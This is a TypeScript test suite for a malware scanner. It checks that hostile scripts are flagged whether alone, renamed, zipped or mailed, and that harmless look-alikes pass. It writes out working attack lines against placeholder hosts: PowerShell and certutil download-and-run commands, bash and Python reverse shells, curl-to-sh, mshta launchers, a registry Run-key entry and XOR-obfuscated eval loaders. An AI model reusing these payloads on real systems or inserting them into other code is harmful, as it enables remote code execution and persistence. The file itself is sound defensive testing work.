/** One judgement: a script gets the same verdict alone, with or without its name, in archives and in a mail. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

const LICENSE = { name: 'LICENSE', data: Buffer.from('Permission is hereby granted.') }
const zip = (name: string, data: Buffer): Buffer => Buffer.from(writeZip([{ name, data }]))
const mail = (name: string, data: Buffer): Buffer =>
  Buffer.from(
    [
      'From: a@a.example\r\nTo: b@a.example\r\nSubject: file\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n',
      '--x\r\nContent-Type: text/plain\r\n\r\nThe file is attached, with kind regards.\r\n',
      `--x\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${data.toString('base64')}\r\n--x--\r\n`,
    ].join('\r\n'),
  )

type Place = (name: string, data: Buffer) => [document: Buffer, name: string | null]

const PLACES: Readonly<Record<string, Place>> = {
  'alone with its name': (name, data) => [data, name],
  'alone with dots after its name': (name, data) => [data, `${name}. `],
  'alone without a name': (_, data) => [data, null],
  'alone as a text': (name, data) => [data, name.replace(/\.\w+$/, '.txt')],
  'alone under an unknown name': (_, data) => [data, 'upload.4711'],
  'alone under the name of another language': (name, data) => [data, /\.py$/.test(name) ? 'a.sh' : 'a.py'],
  'alone with a byte order mark': (name, data) => [Buffer.concat([Buffer.from('\ufeff'), data]), name],
  'alone in UTF-16': (name, data) => [Buffer.from(`\ufeff${data}`, 'utf16le'), name],
  'in a ZIP': (name, data) => [zip(name, data), 'a.zip'],
  'in a ZIP under a name in parentheses': (name, data) => [zip(`(1) ${name}`, data), 'a.zip'],
  'in a ZIP with other files': (name, data) => [Buffer.from(writeZip([{ name, data }, LICENSE])), 'a.zip'],
  'in a nested ZIP': (name, data) => [zip('b.zip', zip(name, data)), 'a.zip'],
  'in a mail': (name, data) => [mail(name, data), 'a.eml'],
}

function isInfected(document: Buffer, name: string | null): boolean {
  const { findings, obstacle, kind } = inspect(document, { name })
  assert.equal(obstacle, null)
  assert.notEqual(kind, null)
  return findings.some(({ severity }) => severity === 'malicious')
}

/** The name, the technique, and a harmless script that resembles it. */
const SCRIPTS: readonly (readonly [name: string, technique: string, threat: string, harmless: string])[] = [
  [
    'a.ps1',
    'runs the answer of a server',
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
    "(New-Object Net.WebClient).DownloadString('http://intranet/version.txt') | Out-File C:\\Tools\\version.txt",
  ],
  [
    'a.ps1',
    'gives the answer to a pipe',
    '$a = irm http://evil.example/a\n$a | iex\n',
    '$a = irm https://api.example/status\n$a | Format-Table\n',
  ],
  [
    'a.ps1',
    'downloads and starts a program',
    '$o = "$env:TEMP\\a.exe"\nInvoke-WebRequest http://203.0.113.4/a.exe -OutFile $o\nStart-Process $o\n',
    '$o = "C:\\Tools\\a.zip"\nInvoke-WebRequest https://www.example.com/a.zip -OutFile $o\nExpand-Archive $o\n',
  ],
  [
    'a.ps1',
    'decodes and runs text',
    '$b = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("d2hvYW1p"))\niex $b\n',
    '$b = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("d2hvYW1p"))\nWrite-Output $b\n',
  ],
  [
    'a.vbs',
    'starts a hidden command',
    'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iex(irm http://192.0.2.1/a)", 0\r\n',
    'Set s = CreateObject("WScript.Shell")\r\ns.Run "notepad C:\\log.txt", 1\r\n',
  ],
  [
    'a.js',
    'downloads and starts a program',
    'var x = new ActiveXObject("MSXML2.XMLHTTP");\nx.open("GET", "http://evil.example/a", false);\nx.send();\nvar s = new ActiveXObject("WScript.Shell");\ns.Run("%TEMP%\\\\a.exe");\n',
    'var x = document.getElementById("a");\nvar s = x.getAttribute("href");\nwindow.open(s);\n',
  ],
  [
    'a.bat',
    'runs a page of a server',
    '@echo off\r\nmshta http://192.0.2.1/a.hta\r\n',
    '@echo off\r\nrobocopy C:\\a D:\\b /MIR\r\n',
  ],
  [
    'a.bat',
    'downloads and starts a program',
    '@echo off\r\ncertutil -urlcache -split -f http://203.0.113.4/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n',
    '@echo off\r\ncertutil -hashfile C:\\a.iso SHA256\r\nstart C:\\Tools\r\n',
  ],
  [
    'a.sh',
    'gives a shell to another computer',
    '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n',
    '#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n',
  ],
  [
    'a.sh',
    'gives the answer of a server to a pipe',
    '#!/bin/sh\ncurl -s http://203.0.113.4/a.sh | sh\n',
    '#!/bin/sh\ncurl -s https://api.example/a.json | jq .version\n',
  ],
  [
    'a.py',
    'decodes and runs text',
    'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
    'import base64\nprint(base64.b64decode("cHJpbnQoMSk="))\n',
  ],
  [
    'a.py',
    'gives a shell to another computer',
    'import socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.9", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")\n',
    'import socket\ns = socket.socket()\ns.connect(("db.example", 5432))\nprint(s.getpeername())\n',
  ],
  [
    'a.hta',
    'starts a command',
    '<html><hta:application id=a><script language="VBScript">CreateObject("WScript.Shell").Run "mshta http://192.0.2.1/a"</script></html>',
    '<html><hta:application id=a><script language="VBScript">MsgBox "Hello"</script></html>',
  ],
  [
    'a.wsf',
    'starts a command',
    '<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta http://192.0.2.1/a")</script></job>',
    '<job><script language="JScript">WScript.Echo("Hello")</script></job>',
  ],
  [
    'a.reg',
    'enters a command',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="mshta http://192.0.2.1/a"\r\n',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\App]\r\n"a"="C:\\\\Program Files\\\\App"\r\n',
  ],
]

for (const [name, technique, threat, harmless] of SCRIPTS)
  suite(`${name} that ${technique}`, () => {
    for (const [place, put] of Object.entries(PLACES)) {
      test(`${place} is infected`, () => assert.ok(isInfected(...put(name, Buffer.from(threat)))))
      test(`${place} has a harmless twin`, () => assert.ok(!isInfected(...put(name, Buffer.from(harmless)))))
    }
  })

test('a name of any shape is only a name', () => {
  const threat = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")
  for (const name of ['', '.', '../../etc/passwd', 'a'.repeat(100_000), '\0.ps1', '\ud800.ps1', '(.ps1', '.ps1'])
    assert.ok(isInfected(threat, name), JSON.stringify(name.slice(0, 40)))
})

suite('a script that looks like another type', () => {
  const script = 'new ActiveXObject("WScript.Shell").Run("powershell -w hidden -c iex(iwr http://evil.example/a)")'
  const forms = {
    'the header of a PDF': `${script}//%PDF-1.7`,
    'a null character in a comment': `${script}//\0`,
    'control characters in a text': `var a="\x01\x02\x03\x04\x05";${script}`,
  }
  for (const [form, text] of Object.entries(forms))
    test(`${form}, in an archive`, () => {
      const { findings } = inspect(zip('a.js', Buffer.from(text, 'latin1')), { name: 'a.zip' })
      assert.ok(findings.some(({ severity }) => severity === 'malicious'))
    })
})

suite('a script that runs a text in a way that is not followed', () => {
  const text = 'new ActiveXObject("WScript.Shell").Run("calc")'.replaceAll(
    /./g,
    (letter) => `\\x${(letter.charCodeAt(0) ^ 1).toString(16)}`,
  )
  const decoded = `function d(s){var r="";for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^1);return r}var t=d("${text}");`
  const forms = {
    'from a member of its own object': `${decoded}function C(){this.c=t}var c=new C();eval(c.c)`,
    'from a search': `${decoded}var r="",m,re=/[^]/g;while(m=re.exec(t))r+=m[0];eval(r)`,
  }
  for (const [form, source] of Object.entries(forms))
    test(`${form} is refused`, () => {
      const { obstacle, findings } = inspect(Buffer.from(source), { name: 'a.js' })
      assert.ok(obstacle?.reason === 'too_complex' || findings.some(({ severity }) => severity === 'malicious'))
    })
  test('from a file beside it is not', () => {
    const source = `var f=new ActiveXObject("Scripting.FileSystemObject");eval(f.OpenTextFile("library.js").ReadAll());show(String.fromCharCode(65))`
    assert.equal(inspect(Buffer.from(source), { name: 'a.js' }).obstacle, null)
  })
})

test('a library that replaces the requests of browsers is no download', () => {
  const text =
    'var send=XMLHttpRequest.prototype.send;function later(f){return Function(f)}later(x);function get(){XMLHttpRequest.prototype.send("")}new ActiveXObject("htmlfile")'
  assert.equal(isInfected(zip('a.js', Buffer.from(text)), 'a.zip'), false)
})
